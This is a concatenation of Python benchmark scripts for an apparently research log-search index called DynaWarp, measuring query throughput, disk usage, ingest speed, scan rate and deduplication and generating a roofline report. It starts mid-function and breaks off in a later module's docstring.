    samples = (token_lists * ((host_samples // len(token_lists)) + 1))
    hs = samples[:host_samples]
    t0 = time.perf_counter()
    for toks in hs:
        engine.host_query(toks, op="and")
    host_us = (time.perf_counter() - t0) / max(len(hs), 1) * 1e6

    device_us = {}
    for b in buckets:
        wave = (token_lists * ((b // len(token_lists)) + 1))[:b]
        engine.query_batch(wave, op="and")          # compile this bucket
        times = []
        for _ in range(max(reps, 1)):
            t0 = time.perf_counter()
            engine.query_batch(wave, op="and")
            times.append(time.perf_counter() - t0)
        device_us[b] = statistics.median(times) * 1e6
    return {
        "format": COST_MODEL_FORMAT,
        "host_us_per_query": round(host_us, 2),
        "device_us_per_wave": {str(b): round(us, 2)
                               for b, us in device_us.items()},
        "backend": jax.default_backend(),
        "n_segments": len(engine.segments),
        "reps": int(reps),
    }


def _cost_model_rows(ds_name: str, dw, table: dict) -> dict:
    """Measure + record the per-bucket cost model on the benchmark
    store; the scheduler-facing JSON is written by ``run()``."""
    from repro.core.tokenizer import term_query_tokens
    from repro.logstore.datasets import id_queries

    token_lists = [term_query_tokens(t) for t in id_queries(29, 16)]
    model = measure_dispatch_costs(dw.engine, token_lists)
    table[f"{ds_name}/dispatch_cost/host_us_per_query"] = \
        model["host_us_per_query"]
    for b, us in model["device_us_per_wave"].items():
        table[f"{ds_name}/dispatch_cost/device_us_per_wave/{b}"] = us
    print(f"[query] {ds_name:14s} {'dispatch_cost':16s} host      "
          f"{model['host_us_per_query']:10.2f} us/query", flush=True)
    for b, us in model["device_us_per_wave"].items():
        print(f"[query] {ds_name:14s} {'dispatch_cost':16s} wave Q={b:<4s}"
              f"{us:10.2f} us/wave", flush=True)
    return model


def _time_waves(fn, *, min_time_s: float = 0.5):
    """Time repeated calls of a whole-wave callable; q/s over the wave."""
    n_queries = fn()  # warm-up (also jit-compiles the bucket shape)
    waves, t0 = 0, time.perf_counter()
    while time.perf_counter() - t0 < min_time_s:
        fn()
        waves += 1
    return waves * n_queries / (time.perf_counter() - t0)


def _device_query_rows(ds_name: str, dw, table: dict):
    from repro.core.query import query_and
    from repro.core.tokenizer import term_query_tokens
    from repro.logstore.datasets import id_queries

    wave = id_queries(31, 20) * 256         # 5120 term(ID) queries
    token_lists = [term_query_tokens(t) for t in wave]

    def host_loop():
        for toks in token_lists:
            query_and(dw.sketch, toks)
        return len(wave)

    def engine_wave():
        dw.engine.query_batch(token_lists, op="and")
        return len(wave)

    host_qps = _time_waves(host_loop)
    eng_qps = _time_waves(engine_wave)
    speedup = eng_qps / max(host_qps, 1e-9)
    table[f"{ds_name}/device_query/host_loop"] = round(host_qps, 2)
    table[f"{ds_name}/device_query/engine"] = round(eng_qps, 2)
    table[f"{ds_name}/device_query/engine_speedup"] = round(speedup, 2)
    print(f"[query] {ds_name:14s} {'device_query':16s} host_loop "
          f"{host_qps:10.2f} q/s", flush=True)
    print(f"[query] {ds_name:14s} {'device_query':16s} engine    "
          f"{eng_qps:10.2f} q/s  ({speedup:.1f}x)", flush=True)


def _sharded_query_rows(ds_name: str, ds, table: dict):
    """Segment fan-out through the sharded engine vs the single-device
    engine on the SAME per-spill segments — 1 device gives architecture-
    shape evidence; ``XLA_FLAGS=--xla_force_host_platform_device_count=8``
    measures the 8-way mesh."""
    import jax
    from repro.core.query_engine import QueryEngine
    from repro.core.tokenizer import term_query_tokens
    from repro.logstore.datasets import id_queries
    from repro.logstore.store import DynaWarpStore

    store = DynaWarpStore(batch_lines=64, mode="segmented",
                          memory_limit_bytes=1 << 18,
                          shard_axes=("data",))
    store.ingest(ds.lines)
    store.finish()
    single = QueryEngine(store.segments, n_postings=store.n_batches)

    wave = id_queries(31, 20) * 256             # 5120 term(ID) queries
    token_lists = [term_query_tokens(t) for t in wave]
    n_dev = len(jax.devices())

    single_qps = _time_waves(
        lambda: (single.query_batch(token_lists), len(wave))[1])
    shard_qps = _time_waves(
        lambda: (store.engine.query_batch(token_lists), len(wave))[1])
    speedup = shard_qps / max(single_qps, 1e-9)
    table[f"{ds_name}/sharded_query/devices"] = n_dev
    table[f"{ds_name}/sharded_query/segments"] = len(store.segments)
    table[f"{ds_name}/sharded_query/single_engine"] = round(single_qps, 2)
    table[f"{ds_name}/sharded_query/sharded_engine"] = round(shard_qps, 2)
    table[f"{ds_name}/sharded_query/sharded_speedup"] = round(speedup, 2)
    print(f"[query] {ds_name:14s} {'sharded_query':16s} single    "
          f"{single_qps:10.2f} q/s ({len(store.segments)} segments)",
          flush=True)
    print(f"[query] {ds_name:14s} {'sharded_query':16s} sharded   "
          f"{shard_qps:10.2f} q/s  ({speedup:.1f}x on {n_dev} device(s))",
          flush=True)


def run(results: dict):
    table = {}
    cost_model = None
    for ds_name in DATASETS:
        ds = load_dataset(ds_name)
        stores = {n: build_store(n, ds)
                  for n in ("dynawarp", "csc", "lucene", "bloom", "scan")}
        for scen, make in QUERY_SCENARIOS.items():
            for sname, s in stores.items():
                queries, fn = make(ds, s)
                qps = time_queries(fn, queries)
                table[f"{ds_name}/{scen}/{sname}"] = round(qps, 2)
                print(f"[query] {ds_name:14s} {scen:16s} {sname:9s} "
                      f"{qps:10.2f} q/s", flush=True)
        _device_query_rows(ds_name, stores["dynawarp"], table)
        _sharded_query_rows(ds_name, ds, table)
        # the LAST (largest) dataset's model is the one the scheduler
        # loads — closest to production segment counts
        cost_model = _cost_model_rows(ds_name, stores["dynawarp"], table)
        # paper headline: needle-in-haystack speedup vs linear scan
        base = table[f"{ds_name}/term(ID)/scan"]
        for sname in ("dynawarp", "csc", "lucene"):
            spd = table[f"{ds_name}/term(ID)/{sname}"] / max(base, 1e-9)
            table[f"{ds_name}/term(ID)/{sname}_speedup_vs_scan"] = round(spd, 1)
            print(f"[query] {ds_name} term(ID) {sname} speedup vs scan: "
                  f"{spd:.0f}x", flush=True)
    if cost_model is not None:
        with open(COST_MODEL_OUT, "w") as f:
            json.dump(cost_model, f, indent=1)
        print(f"[query] wrote serving cost model -> {COST_MODEL_OUT}",
              flush=True)
    results["query_throughput"] = table
    results["dispatch_cost_model"] = cost_model
