"""Table 3: query throughput (queries/s) per scenario x store x dataset.
Cold-ish protocol: every query decompresses + Boyer-Moore-post-filters
its candidate batches, so false positives cost real work.

The extra ``device_query`` scenario times the candidate-generation index
probe itself — the paper's sequential host loop (Alg. 3, one token probe
at a time) against the batched QueryEngine (one device dispatch per wave
through the Pallas probe + bitset kernels) — on the same DynaWarp store.
"""
import time

from .common import (DATASETS, QUERY_SCENARIOS, build_store, load_dataset,
                     time_queries)


def _time_waves(fn, *, min_time_s: float = 0.5):
    """Time repeated calls of a whole-wave callable; q/s over the wave."""
    n_queries = fn()  # warm-up (also jit-compiles the bucket shape)
    waves, t0 = 0, time.perf_counter()
    while time.perf_counter() - t0 < min_time_s:
        fn()
        waves += 1
    return waves * n_queries / (time.perf_counter() - t0)


def _device_query_rows(ds_name: str, dw, table: dict):
    from repro.core.query import query_and
    from repro.core.tokenizer import term_query_tokens
    from repro.logstore.datasets import id_queries

    wave = id_queries(31, 20) * 256         # 5120 term(ID) queries
    token_lists = [term_query_tokens(t) for t in wave]

    def host_loop():
        for toks in token_lists:
            query_and(dw.sketch, toks)
        return len(wave)

    def engine_wave():
        dw.engine.query_batch(token_lists, op="and")
        return len(wave)

    host_qps = _time_waves(host_loop)
    eng_qps = _time_waves(engine_wave)
    speedup = eng_qps / max(host_qps, 1e-9)
    table[f"{ds_name}/device_query/host_loop"] = round(host_qps, 2)
    table[f"{ds_name}/device_query/engine"] = round(eng_qps, 2)
    table[f"{ds_name}/device_query/engine_speedup"] = round(speedup, 2)
    print(f"[query] {ds_name:14s} {'device_query':16s} host_loop "
          f"{host_qps:10.2f} q/s", flush=True)
    print(f"[query] {ds_name:14s} {'device_query':16s} engine    "
          f"{eng_qps:10.2f} q/s  ({speedup:.1f}x)", flush=True)


def _sharded_query_rows(ds_name: str, ds, table: dict):
    """Segment fan-out through the sharded engine vs the single-device
    engine on the SAME per-spill segments — 1 device gives architecture-
    shape evidence; ``XLA_FLAGS=--xla_force_host_platform_device_count=8``
    measures the 8-way mesh."""
    import jax
    from repro.core.query_engine import QueryEngine
    from repro.core.tokenizer import term_query_tokens
    from repro.logstore.datasets import id_queries
    from repro.logstore.store import DynaWarpStore

    store = DynaWarpStore(batch_lines=64, mode="segmented",
                          memory_limit_bytes=1 << 18,
                          shard_axes=("data",))
    store.ingest(ds.lines)
    store.finish()
    single = QueryEngine(store.segments, n_postings=store.n_batches)

    wave = id_queries(31, 20) * 256             # 5120 term(ID) queries
    token_lists = [term_query_tokens(t) for t in wave]
    n_dev = len(jax.devices())

    single_qps = _time_waves(
        lambda: (single.query_batch(token_lists), len(wave))[1])
    shard_qps = _time_waves(
        lambda: (store.engine.query_batch(token_lists), len(wave))[1])
    speedup = shard_qps / max(single_qps, 1e-9)
    table[f"{ds_name}/sharded_query/devices"] = n_dev
    table[f"{ds_name}/sharded_query/segments"] = len(store.segments)
    table[f"{ds_name}/sharded_query/single_engine"] = round(single_qps, 2)
    table[f"{ds_name}/sharded_query/sharded_engine"] = round(shard_qps, 2)
    table[f"{ds_name}/sharded_query/sharded_speedup"] = round(speedup, 2)
    print(f"[query] {ds_name:14s} {'sharded_query':16s} single    "
          f"{single_qps:10.2f} q/s ({len(store.segments)} segments)",
          flush=True)
    print(f"[query] {ds_name:14s} {'sharded_query':16s} sharded   "
          f"{shard_qps:10.2f} q/s  ({speedup:.1f}x on {n_dev} device(s))",
          flush=True)


def run(results: dict):
    table = {}
    for ds_name in DATASETS:
        ds = load_dataset(ds_name)
        stores = {n: build_store(n, ds)
                  for n in ("dynawarp", "csc", "lucene", "bloom", "scan")}
        for scen, make in QUERY_SCENARIOS.items():
            for sname, s in stores.items():
                queries, fn = make(ds, s)
                qps = time_queries(fn, queries)
                table[f"{ds_name}/{scen}/{sname}"] = round(qps, 2)
                print(f"[query] {ds_name:14s} {scen:16s} {sname:9s} "
                      f"{qps:10.2f} q/s", flush=True)
        _device_query_rows(ds_name, stores["dynawarp"], table)
        _sharded_query_rows(ds_name, ds, table)
        # paper headline: needle-in-haystack speedup vs linear scan
        base = table[f"{ds_name}/term(ID)/scan"]
        for sname in ("dynawarp", "csc", "lucene"):
            spd = table[f"{ds_name}/term(ID)/{sname}"] / max(base, 1e-9)
            table[f"{ds_name}/term(ID)/{sname}_speedup_vs_scan"] = round(spd, 1)
            print(f"[query] {ds_name} term(ID) {sname} speedup vs scan: "
                  f"{spd:.0f}x", flush=True)
    results["query_throughput"] = table
