"""Fig. 5: disk usage split into compressed data vs index/sketch."""
from .common import DATASETS, build_store, load_dataset


def run(results: dict):
    table = {}
    for ds_name in DATASETS:
        ds = load_dataset(ds_name)
        raw = ds.raw_bytes()
        for store_name in ("dynawarp", "csc", "lucene", "bloom", "scan"):
            s = build_store(store_name, ds)
            st = s.stats
            over_data = st.index_bytes / max(st.data_bytes, 1)
            over_raw = st.index_bytes / max(raw, 1)
            table[f"{ds_name}/{store_name}"] = dict(
                raw_bytes=raw, data_bytes=st.data_bytes,
                index_bytes=st.index_bytes,
                index_over_data_pct=round(100 * over_data, 1),
                index_over_raw_pct=round(100 * over_raw, 2),
            )
            print(f"[disk] {ds_name:14s} {store_name:9s} data "
                  f"{st.data_bytes/1e6:7.2f}MB index "
                  f"{st.index_bytes/1e6:7.2f}MB "
                  f"({100*over_data:6.1f}% of data, "
                  f"{100*over_raw:5.2f}% of raw)", flush=True)
    results["disk_usage"] = table
