"""Fig. 5: disk usage split into compressed data vs index/sketch, plus the
durable-store rows: the ACTUAL on-disk footprint of a manifest-based
``DynaWarpStore(path=...)`` (blob bytes vs segment-file bytes vs raw —
comparable to the paper's 93%-less-storage claim) and the cold-open cost,
from ``DynaWarpStore.open()`` to the first answered query wave."""
import glob
import os
import tempfile
import time

from repro.logstore.datasets import present_id_queries
from repro.logstore.store import DynaWarpStore

from .common import DATASETS, build_store, load_dataset


def run(results: dict):
    table = {}
    for ds_name in DATASETS:
        ds = load_dataset(ds_name)
        raw = ds.raw_bytes()
        for store_name in ("dynawarp", "csc", "lucene", "bloom", "scan"):
            s = build_store(store_name, ds)
            st = s.stats
            over_data = st.index_bytes / max(st.data_bytes, 1)
            over_raw = st.index_bytes / max(raw, 1)
            table[f"{ds_name}/{store_name}"] = dict(
                raw_bytes=raw, data_bytes=st.data_bytes,
                index_bytes=st.index_bytes,
                index_over_data_pct=round(100 * over_data, 1),
                index_over_raw_pct=round(100 * over_raw, 2),
            )
            print(f"[disk] {ds_name:14s} {store_name:9s} data "
                  f"{st.data_bytes/1e6:7.2f}MB index "
                  f"{st.index_bytes/1e6:7.2f}MB "
                  f"({100*over_data:6.1f}% of data, "
                  f"{100*over_raw:5.2f}% of raw)", flush=True)
        table[f"{ds_name}/dynawarp-disk"] = _durable_rows(ds_name, ds, raw)
    results["disk_usage"] = table


def _durable_rows(ds_name, ds, raw) -> dict:
    """On-disk footprint + cold-open timing of the durable store."""
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "store")
        s = DynaWarpStore(batch_lines=64, mode="segmented", path=path)
        s.ingest(ds.lines)
        s.finish()
        s.close()
        blob_bytes = sum(os.path.getsize(f)
                         for f in glob.glob(os.path.join(path, "blobs-*.dat")))
        seg_bytes = sum(os.path.getsize(f)
                        for f in glob.glob(os.path.join(path, "seg-*.dwp")))
        man_bytes = os.path.getsize(os.path.join(path, "MANIFEST.json"))
        index_bytes = seg_bytes + man_bytes
        over_data = index_bytes / max(blob_bytes, 1)
        over_raw = index_bytes / max(raw, 1)
        print(f"[disk] {ds_name:14s} {'dw-disk':9s} data "
              f"{blob_bytes/1e6:7.2f}MB index "
              f"{index_bytes/1e6:7.2f}MB "
              f"({100*over_data:6.1f}% of data, "
              f"{100*over_raw:5.2f}% of raw)  [on-disk files; index "
              f"carries planes+sources for mergeability]", flush=True)

        # cold open -> first answered wave (segments memmap in lazily; the
        # wave pays the one-time device staging)
        queries = present_id_queries(ds, 7, 64) + ["info", "connection"]
        t0 = time.perf_counter()
        re = DynaWarpStore.open(path)
        t_open = time.perf_counter() - t0
        t0 = time.perf_counter()
        re.query_term_batch(queries)
        t_first_wave = time.perf_counter() - t0
        t0 = time.perf_counter()
        re.query_term_batch(queries)
        t_warm_wave = time.perf_counter() - t0
        re.close()   # release the blob fd + staged buffers before cleanup
        print(f"[disk] {ds_name:14s} cold-open {t_open*1e3:8.1f}ms  "
              f"first wave ({len(queries)} q) {t_first_wave*1e3:8.1f}ms  "
              f"warm wave {t_warm_wave*1e3:8.1f}ms", flush=True)
        return dict(
            raw_bytes=raw, blob_file_bytes=blob_bytes,
            segment_file_bytes=seg_bytes, manifest_bytes=man_bytes,
            index_over_data_pct=round(100 * over_data, 1),
            index_over_raw_pct=round(100 * over_raw, 2),
            cold_open_ms=round(t_open * 1e3, 1),
            first_wave_ms=round(t_first_wave * 1e3, 1),
            warm_wave_ms=round(t_warm_wave * 1e3, 1),
            n_queries=len(queries))
