"""§6 production evaluation analogue: effective scan rate (GB/s of raw
data searched per second per core) vs filter selectivity."""
import time

import numpy as np

from .common import build_store, load_dataset
from repro.logstore.datasets import (extracted_term_queries, id_queries,
                                     present_id_queries)


def run(results: dict):
    ds = load_dataset("60k_generated")
    s = build_store("dynawarp", ds)
    raw_gb = ds.raw_bytes() / 1e9
    table = {}
    # selectivity sweep: needle (~0 batches) -> common term (~all batches)
    sweeps = {
        "needle_1e-6": id_queries(31, 10),
        "selective_ids": present_id_queries(ds, 37, 10),
        "extracted_terms": extracted_term_queries(ds, 41, 10),
        "common_term": ["info"],
    }
    for name, queries in sweeps.items():
        for q in queries[:2]:
            s.query_term(q)
        t0 = time.perf_counter()
        n = 0
        frac = []
        while time.perf_counter() - t0 < 0.5:
            r = s.query_term(queries[n % len(queries)])
            frac.append(len(r.candidate_batches) / max(r.batches_total, 1))
            n += 1
        dt = time.perf_counter() - t0
        rate = n * raw_gb / dt
        table[name] = dict(scan_rate_gb_per_s=round(rate, 2),
                           batches_touched_frac=round(float(np.mean(frac)), 5),
                           qps=round(n / dt, 1))
        print(f"[scan-rate] {name:16s} {rate:10.2f} GB/s/core "
              f"(touches {100*np.mean(frac):6.2f}% of batches)", flush=True)
    results["scan_rate"] = table
