"""Ingest smoke (CI gate): a small corpus through the columnar
segmented write path with compaction forced, checked against the scan
baseline.

Asserts the PR-2 invariants end to end — bit-identical query results
through spill + tiered compaction, a bounded post-compaction segment
count, a deterministically flushed partial tail batch — and prints one
JSON object (same flat shape as the other benchmark tables).

Run via ``make bench-smoke`` or ``python -m benchmarks.ingest_smoke``.
"""
import json
import time

import numpy as np

from repro.logstore.datasets import (generate_dataset, id_queries,
                                     present_id_queries)
from repro.logstore.store import DynaWarpStore, ScanStore

N_LINES = 3000  # 46 full batches + a partial 56-line tail at 64 lines/batch


def main() -> dict:
    ds = generate_dataset("smoke", n_lines=N_LINES, n_sources=24, seed=11)

    dw = DynaWarpStore(batch_lines=64, mode="segmented",
                       memory_limit_bytes=1 << 14, compact_fanout=2)
    dw.request_compact()
    t0 = time.perf_counter()
    dw.ingest(ds.lines)
    dw.finish()
    build_s = time.perf_counter() - t0

    scan = ScanStore(batch_lines=64)
    scan.ingest(ds.lines)
    scan.finish()

    assert dw.n_batches == scan.n_batches == (N_LINES + 63) // 64, \
        "partial tail batch must flush on finish()"
    n_spills = dw._writer.n_spills
    assert n_spills > 1, "smoke corpus must force spills"
    bound = int(np.log2(max(n_spills, 2))) + 2
    assert len(dw.segments) <= bound, \
        f"{len(dw.segments)} segments > O(log n) bound {bound}"

    queries = (present_id_queries(ds, 3, 8) + id_queries(5, 4)
               + ["info", "gc", "connection"])
    for t in queries:
        truth = scan.query_term(t).matches
        assert dw.query_term(t).matches == truth, t
    batch = dw.query_term_batch(queries)
    for t, r in zip(queries, batch):
        assert r.matches == scan.query_term(t).matches, t

    out = {
        "ingest_smoke/lines": N_LINES,
        "ingest_smoke/batches": dw.n_batches,
        "ingest_smoke/spills": n_spills,
        "ingest_smoke/segments": len(dw.segments),
        "ingest_smoke/segment_bound": bound,
        "ingest_smoke/writer_compactions": dw._writer.n_compactions,
        "ingest_smoke/lines_per_s": round(
            N_LINES / max(dw.stats.ingest_s, 1e-9)),
        "ingest_smoke/build_s": round(build_s, 3),
        "ingest_smoke/queries_checked": len(queries),
    }
    print(json.dumps(out, indent=2))
    print("[smoke] OK: segmented ingest + forced compaction bit-identical "
          f"to scan over {len(queries)} queries, "
          f"{len(dw.segments)}/{n_spills} segments after tiering",
          flush=True)
    return out


if __name__ == "__main__":
    main()
