"""Fig. 4: ingest speed per store x dataset (tokenize+index+compress,
sketch_finish, data_finish).

The extra ``columnar_ingest`` rows time the write-path rework on the same
DynaWarp store: the seed per-line loop (scalar fingerprints + per-token
probing) against the columnar batch pipeline (vectorized
tokenize -> fingerprint -> sort-based group sealing), in the same flat
JSON shape as ``query_throughput.py``'s device_query rows."""
from .common import DATASETS, build_store, load_dataset


def _columnar_rows(ds_name: str, ds, table: dict):
    from repro.logstore.store import DynaWarpStore

    rows = {}
    for label, columnar in (("line_loop", False), ("columnar", True)):
        for mode in ("batch", "segmented"):
            s = DynaWarpStore(batch_lines=64, mode=mode, columnar=columnar)
            s.ingest(ds.lines)
            s.finish()
            st = s.stats
            lps = round(ds.n_lines / max(st.ingest_s, 1e-9))
            rows[f"{label}/{mode}"] = (lps, st.sketch_finish_s)
            key = f"{ds_name}/columnar_ingest/{mode}/{label}"
            table[f"{key}_lines_per_s"] = lps
            table[f"{key}_seal_s"] = round(st.sketch_finish_s, 3)
            print(f"[ingest] {ds_name:14s} columnar_ingest {mode:9s} "
                  f"{label:9s} {lps:8d} lines/s  seal "
                  f"{st.sketch_finish_s:5.2f}s", flush=True)
    for mode in ("batch", "segmented"):
        speedup = rows[f"columnar/{mode}"][0] / max(
            rows[f"line_loop/{mode}"][0], 1e-9)
        table[f"{ds_name}/columnar_ingest/{mode}/speedup"] = round(speedup, 2)
        print(f"[ingest] {ds_name:14s} columnar_ingest {mode:9s} speedup "
              f"{speedup:.1f}x", flush=True)


def run(results: dict):
    table = {}
    for ds_name in DATASETS:
        ds = load_dataset(ds_name)
        for store_name in ("dynawarp", "csc", "lucene", "bloom", "scan"):
            s = build_store(store_name, ds)
            st = s.stats
            table[f"{ds_name}/{store_name}"] = dict(
                ingest_s=round(st.ingest_s, 3),
                sketch_finish_s=round(st.sketch_finish_s, 3),
                data_finish_s=round(st.data_finish_s, 3),
                lines_per_s=round(ds.n_lines / max(st.ingest_s, 1e-9)),
                tokens_indexed=st.n_tokens_indexed,
            )
            print(f"[ingest] {ds_name:14s} {store_name:9s} "
                  f"ingest {st.ingest_s:6.2f}s finish "
                  f"{st.sketch_finish_s:5.2f}s "
                  f"({table[f'{ds_name}/{store_name}']['lines_per_s']}/s)",
                  flush=True)
        _columnar_rows(ds_name, ds, table)
    results["ingest_speed"] = table
