"""Fig. 4: ingest speed per store x dataset (tokenize+index+compress,
sketch_finish, data_finish)."""
from .common import DATASETS, build_store, load_dataset


def run(results: dict):
    table = {}
    for ds_name in DATASETS:
        ds = load_dataset(ds_name)
        for store_name in ("dynawarp", "csc", "lucene", "bloom", "scan"):
            s = build_store(store_name, ds)
            st = s.stats
            table[f"{ds_name}/{store_name}"] = dict(
                ingest_s=round(st.ingest_s, 3),
                sketch_finish_s=round(st.sketch_finish_s, 3),
                data_finish_s=round(st.data_finish_s, 3),
                lines_per_s=round(ds.n_lines / max(st.ingest_s, 1e-9)),
                tokens_indexed=st.n_tokens_indexed,
            )
            print(f"[ingest] {ds_name:14s} {store_name:9s} "
                  f"ingest {st.ingest_s:6.2f}s finish "
                  f"{st.sketch_finish_s:5.2f}s "
                  f"({table[f'{ds_name}/{store_name}']['lines_per_s']}/s)",
                  flush=True)
    results["ingest_speed"] = table
