"""§Roofline report generator: reads the dry-run JSON and emits the
per-(arch x shape x mesh) table with the three roofline terms, dominant
bottleneck, MODEL_FLOPS = 6*N*D (or 6*N_active*D), and the useful-FLOPs
ratio.  Markdown output feeds EXPERIMENTS.md."""
from __future__ import annotations

import json

from repro.configs import ARCHS, get_arch


def model_flops(arch_id: str, shape_name: str) -> float:
    """Analytic MODEL_FLOPS per step (GLOBAL, schedule-independent)."""
    spec = get_arch(arch_id)
    cfg = spec.config
    shape = spec.shapes[shape_name]
    d = shape.dims
    if spec.family == "lm":
        n_act = cfg.active_param_count()
        if shape.kind == "train":
            tokens = d["batch"] * d["seq"]
            return 6.0 * n_act * tokens
        if shape.kind == "prefill":
            return 2.0 * n_act * d["batch"] * d["seq"]
        # decode: one token per sequence
        return 2.0 * n_act * d["batch"]
    if spec.family == "gnn":
        # per-edge/per-node MLP matmuls, fwd+bwd (x3 fwd-equivalents x2)
        h, m = cfg.d_hidden, cfg.mlp_layers
        def mlp_params(din, dout):
            sizes = [din] + [h] * m + [dout]
            return sum(a * b for a, b in zip(sizes[:-1], sizes[1:]))
        per_edge = mlp_params(3 * h, h)
        per_node = mlp_params(2 * h, h)
        enc = (d["n_edges"] * mlp_params(cfg.d_edge_in, h)
               + d["n_nodes"] * mlp_params(d.get("d_feat", 100), h)
               + d["n_nodes"] * mlp_params(h, cfg.d_out))
        body = cfg.n_layers * (d["n_edges"] * per_edge
                               + d["n_nodes"] * per_node)
        return 6.0 * (enc + body)
    # recsys: per-example dense interaction + MLP params
    n_dense = cfg.param_count() - getattr(cfg, "total_vocab", 0) * \
        getattr(cfg, "embed_dim", 0)
    if arch_id == "sasrec":
        n_dense = cfg.param_count() - cfg.n_items * cfg.embed_dim
    if arch_id == "mind":
        n_dense = cfg.param_count() - cfg.n_items * cfg.embed_dim
    if arch_id == "two-tower-retrieval":
        n_dense = cfg.param_count() - (cfg.n_user_fields
                                       + cfg.n_item_fields) \
            * cfg.field_vocab * cfg.field_dim - cfg.n_corpus \
            * cfg.tower_mlp[-1]
    mult = 6.0 if shape.kind == "train" else 2.0
    examples = d.get("batch", 1) * (d.get("n_candidates", 1)
                                    if shape.kind == "retrieval" else 1)
    return mult * max(n_dense, 1) * examples / 1.0


def render(results_path: str = "/root/repo/dryrun_results.json",
           out_path: str | None = None) -> str:
    rs = json.load(open(results_path))
    lines = [
        "| arch | shape | mesh | chips | compute s | memory s | "
        "collective s | dominant | MODEL_FLOPS | HLO/dev FLOPs | "
        "useful ratio | live GiB | fits |",
        "|---|---|---|---|---|---|---|---|---|---|---|---|---|",
    ]
    for r in rs:
        if r["status"] == "skipped":
            lines.append(f"| {r['arch']} | {r['shape']} | {r['mesh']} | "
                         f"— | — | — | — | skipped | — | — | — | — | "
                         f"{r['reason'][:60]} |")
            continue
        if r["status"] != "ok":
            lines.append(f"| {r['arch']} | {r['shape']} | {r['mesh']} | "
                         f"ERROR {r['error'][:60]} |")
            continue
        t = r["roofline"]
        dom = max(("compute_s", "memory_s", "collective_s"),
                  key=lambda k: t[k])[:-2]
        mf = model_flops(r["arch"], r["shape"])
        hlo_global = r["per_device"]["flops"] * r["n_chips"]
        ratio = mf / hlo_global if hlo_global else float("nan")
        live = r["per_device"]["live_bytes"] / 2**30
        lines.append(
            f"| {r['arch']} | {r['shape']} | {r['mesh']} | {r['n_chips']} "
            f"| {t['compute_s']:.4f} | {t['memory_s']:.4f} "
            f"| {t['collective_s']:.4f} | {dom} | {mf:.3e} "
            f"| {r['per_device']['flops']:.3e} | {ratio:.2f} "
            f"| {live:.2f} | {'Y' if live <= 16 else 'cpu-f32*'} |")
    md = "\n".join(lines)
    if out_path:
        with open(out_path, "w") as f:
            f.write(md + "\n")
    return md


def run(results: dict):
    import os
    path = "/root/repo/dryrun_results.json"
    if not os.path.exists(path):
        print("[roofline] dryrun_results.json missing — run "
              "python -m repro.launch.dryrun --all first", flush=True)
        return
    md = render(path, "/root/repo/roofline_table.md")
    n_rows = md.count("\n") - 1
    results["roofline"] = dict(rows=n_rows, table_file="roofline_table.md")
    print(f"[roofline] wrote roofline_table.md ({n_rows} rows)", flush=True)


if __name__ == "__main__":
    print(render())
