"""Benchmark harness: one module per paper table/figure.

  ingest_speed      — Fig. 4
  disk_usage        — Fig. 5
  query_throughput  — Table 3
  error_rate        — §5.2 error rates (DynaWarp vs CSC, 4-orders claim)
  scan_rate         — §6 production scan-rate vs selectivity
  dedup_stats       — §3.2 dedup + fingerprint-memory claims
  probe_bench       — beyond-paper batched device probe
  live_tail         — beyond-paper live ingest: per-spill publish cost,
                      snapshot/live query rates, crash-recovery latency
  serve_load        — beyond-paper serving: coalesced waves vs per-query
                      dispatch under open-loop client load
  roofline          — §Roofline table from the dry-run artifact

``python -m benchmarks.run [--only name]`` writes bench_results.json.
"""
import argparse
import json
import sys
import time

from . import (dedup_stats, disk_usage, error_rate, ingest_speed,
               live_tail, probe_bench, query_throughput, roofline,
               scan_rate, serve_load)

MODULES = {
    "ingest_speed": ingest_speed,
    "disk_usage": disk_usage,
    "query_throughput": query_throughput,
    "error_rate": error_rate,
    "scan_rate": scan_rate,
    "dedup_stats": dedup_stats,
    "probe_bench": probe_bench,
    "live_tail": live_tail,
    "serve_load": serve_load,
    "roofline": roofline,
}


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--only", default=None)
    ap.add_argument("--out", default="/root/repo/bench_results.json")
    args = ap.parse_args(argv)
    results: dict = {}
    t0 = time.time()
    for name, mod in MODULES.items():
        if args.only and name != args.only:
            continue
        print(f"=== {name} ===", flush=True)
        t = time.time()
        mod.run(results)
        print(f"=== {name} done in {time.time()-t:.1f}s ===\n", flush=True)
    with open(args.out, "w") as f:
        json.dump(results, f, indent=1, default=str)
    print(f"[bench] all done in {time.time()-t0:.1f}s -> {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
