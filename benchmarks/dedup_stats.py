"""§3.2 claims: posting-list dedup (>88% fewer lists than tokens) and
fingerprints vs full tokens memory saving (~75%)."""
import numpy as np

from .common import load_dataset
from repro.core.batch_builder import build_sealed_from_lines
from repro.core.hashing import token_fingerprint
from repro.core.tokenizer import tokenize_line


def run(results: dict):
    ds = load_dataset("20k_generated")
    token_sets = []   # token byte-strings per batch (for memory stats)
    fp_sets = []      # fingerprint sets per batch (builder input)
    batch = 64
    for b in range(0, ds.n_lines, batch):
        toks = set()
        for line in ds.lines[b:b + batch]:
            toks |= tokenize_line(line)
        token_sets.append(toks)
        fp_sets.append({token_fingerprint(t) for t in toks})
    stats: dict = {}
    sealed = build_sealed_from_lines(fp_sets, stats=stats)
    n_tokens = len(sealed.fps)
    n_lists = len(sealed.lists)
    dedup_pct = 100.0 * (1 - n_lists / max(n_tokens, 1))
    # memory: 4-byte fingerprints vs raw token bytes
    token_bytes = sum(sum(len(t) for t in ts) for ts in token_sets)
    uniq_tokens = set()
    for ts in token_sets:
        uniq_tokens |= ts
    uniq_bytes = sum(len(t) for t in uniq_tokens)
    fp_saving_pct = 100.0 * (1 - 4.0 * len(uniq_tokens) / max(uniq_bytes, 1))
    results["dedup_stats"] = dict(
        n_unique_tokens=n_tokens, n_posting_lists=n_lists,
        list_dedup_pct=round(dedup_pct, 1),
        fingerprint_memory_saving_pct=round(fp_saving_pct, 1))
    print(f"[dedup] tokens {n_tokens} -> lists {n_lists} "
          f"({dedup_pct:.1f}% dedup; paper: >88%)", flush=True)
    print(f"[dedup] fingerprint memory saving vs full tokens: "
          f"{fp_saving_pct:.1f}% (paper: 75%)", flush=True)
