"""Beyond-paper live-tail benchmark (PR 6 crash-safe live ingest).

Measures what per-spill durability costs and what the live read path
delivers, on a durable segmented store at laptop scale:

  * ingest rate with ``publish_per_spill`` on vs off (manifest swap +
    segment publish at every spill vs only at ``finish()``), plus the
    RAM-only segmented store as the no-durability baseline
  * ``snapshot()`` capture latency and standing-query rate against a
